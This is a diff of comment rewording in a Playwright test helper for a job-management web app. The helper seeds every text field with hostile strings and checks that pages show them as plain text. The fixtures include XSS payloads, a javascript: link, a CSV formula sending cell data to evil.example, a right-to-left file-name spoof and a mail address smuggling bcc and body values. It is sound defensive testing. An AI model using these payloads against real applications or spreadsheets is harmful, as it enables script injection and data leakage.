@@ -1,10 +1,11 @@
-// A business with an attack in every text, and checks that no page is affected. Every test watches
-// `window.__pwned` (see breaches.ts). Only a hostile text could create an `x-pwned` element.
+// Creates a business with an attack in every text, and checks that no page is affected. Every test
+// watches `window.__pwned` (see breaches.ts). An `x-pwned` element on a page can only come from a
+// hostile text.
 import { expect, type Page } from '@playwright/test';
 import { type Api, type Client, type Job, type JobCard } from './api.ts';
 import type { Day } from './days.ts';
 
-/** Far from the demo's jobs, so that the week shows only these. */
+/** A week far from the demo's jobs, so that it shows only the jobs with hostile texts. */
 export const hostileWeek: Day = '2031-01-06';
 
 const MARKUP = `"'><img src=x onerror=__pwned=1><script>__pwned=2</script><x-pwned>{{7*7}}`;
@@ -17,36 +18,36 @@ export function markup(field: string): string {
   return field + MARKUP;
 }
 
-/** The same for fields of 200 characters, with markup that closes a title and a text area. */
+/** A longer hostile text for fields of 200 characters. It also closes a title and a text area. */
 export function longMarkup(field: string): string {
   return `${markup(field)}\${7*7}</title></textarea><svg/onload=__pwned=3><a href=javascript:__pwned=4>x</a>`;
 }
 
 export const kinds = {
-  /** Runs when clicked, if a text becomes a link. */
+  /** This text runs when a person clicks it, if the app turns it into a link. */
   link: 'javascript:__pwned=5//0412345678',
-  /** Runs in the spreadsheet that opens a CSV. */
+  /** This text runs in a spreadsheet that opens a CSV with it. */
   formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
-  /** Looks like another text, and reverses the text after it. */
+  /** This text looks like another file name, and reverses the text after it. */
   turned: 'Invoice \u202Egpj.exe',
-  /** Has no space at which a line could break. */
+  /** This text has no space at which a line could break. */
   word: 'W'.repeat(200),
 } as const;
 type Kind = keyof typeof kinds;
 
 /**
- * Valid mail addresses. A spreadsheet could read them as a formula, and a mail program as more than
- * an address.
+ * Returns a valid mail address that a spreadsheet could read as a formula, and a mail program as an
+ * address with further values.
  */
 export const hostileEmail = (who: string): string => `=${who}|'calc'!a1?bcc=x&body=y@evil.example`;
 
 export interface HostileBusiness {
   client: Client;
   job: Job;
-  /** A completed job with the card. */
+  /** A completed job that has the job card `card`. */
   done: Job;
   card: JobCard;
-  /** A job for each other kind of text, with a client of that kind. */
+  /** For each of `kinds`: a job with that text, and with a client that has the same text. */
   others: Record<Kind, Job>;
 }
 
@@ -114,8 +115,8 @@ async function storeOthers(api: Api): Promise<Record<Kind, Job>> {
 }
 
 /**
- * Stores hostile texts in every field that accepts text, as the administrator `api` and the worker
- * could.
+ * Stores hostile texts in every field that accepts text, as the administrator `api` and as the
+ * worker.
  */
 export async function storeHostile(api: Api, worker: Api): Promise<HostileBusiness> {
   await storeSettings(api);
@@ -155,7 +156,7 @@ export async function storeHostile(api: Api, worker: Api): Promise<HostileBusine
   return { client, job, done, card, others: await storeOthers(api) };
 }
 
-/** All texts of a page: visible text, values of fields, and texts for screen readers. */
+/** Returns all texts of a page: visible text, values of fields, and texts for screen readers. */
 function everythingSaid(): string {
   const fields = [
     ...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea'),
@@ -167,8 +168,8 @@ function everythingSaid(): string {
 }
 
 /**
- * Every element or attribute of a page that only a hostile text can have created, or that could
- * execute one.
+ * Returns every element or attribute of a page that only a hostile text can have created, or that
+ * could run a script.
  */
 function madeByText(): string[] {
   const made: string[] = [];
@@ -187,9 +188,10 @@ function madeByText(): string[] {
       const { protocol, origin } = new URL(target, document.baseURI);
       const isOwn = origin === location.origin;
       const isCall = /^tel:\+?\d+$/.test(target);
-      // A mail to one address, without a subject, text or copy that somebody else chose.
+      // Allowed: a mail to one address, without a subject, text or copy that a hostile text added.
       const isMail = protocol === 'mailto:' && !target.includes('?');
-      // The address is one whole value: it cannot name another site or add another value.
+      // Allowed: directions to one address. The address is encoded, so it can neither change the
+      // site nor add a parameter.
       const isWay =
         /^https:\/\/(www\.google\.com\/maps\/dir\/\?api=1&destination|maps\.apple\.com\/\?daddr)=[\w%.!~*'()-]*$/.test(
           target,
@@ -197,26 +199,26 @@ function madeByText(): string[] {
       if (!isOwn && !isCall && !isMail && !isWay) made.push(`${name}=${target}`);
     }
   }
-  // While printing, the title is the file name.
+  // A browser suggests the title of a printed page as its file name.
   if (!/^(([\w &]+ · )?Jobwright|Job Card JC-\d+)$/.test(document.title))
     made.push(`title: ${document.title}`);
   return made;
 }
 
 /**
- * By how much a page scrolls sideways, and its last element that is too wide. Empty if it doesn't
- * scroll.
+ * Describes by how much a page scrolls sideways, and the last element that is too wide. Empty if
+ * the page doesn't scroll.
  */
 function sidewaysScroll(): string {
   const { scrollWidth, clientWidth } = document.documentElement;
-  // A printed page has another width than the screen.
+  // While a page is printed, its width is not that of the screen.
   if (scrollWidth <= clientWidth || matchMedia('print').matches) return '';
   const isTooWide = (one: Element): boolean => one.getBoundingClientRect().right > clientWidth + 1;
   const widest = [...document.querySelectorAll('main *')].findLast(isTooWide);
   return `${scrollWidth} of ${clientWidth} px, ${widest?.outerHTML.slice(0, 200)}`;
 }
 
-/** Expects that the page shows all `texts` unchanged, and that they created no element on it. */
+/** Expects that the page shows all `texts` unchanged, and that none of them created an element. */
 export async function expectPlain(page: Page, ...texts: string[]): Promise<void> {
   const missing = async (): Promise<string[]> => {
     const said = await page.evaluate(everythingSaid);
@@ -224,6 +226,7 @@ export async function expectPlain(page: Page, ...texts: string[]): Promise<void>
   };
   await expect.poll(missing, 'shown as text').toEqual([]);
   expect(await page.evaluate(madeByText), 'the texts create no element').toEqual([]);
-  // After the window changes its size, some parts get their new layout in a later render.
+  // After a change of the window's size, some parts of the page get their new layout only in a
+  // later render.
   await expect.poll(() => page.evaluate(sidewaysScroll), 'scrolls sideways').toBe('');
 }
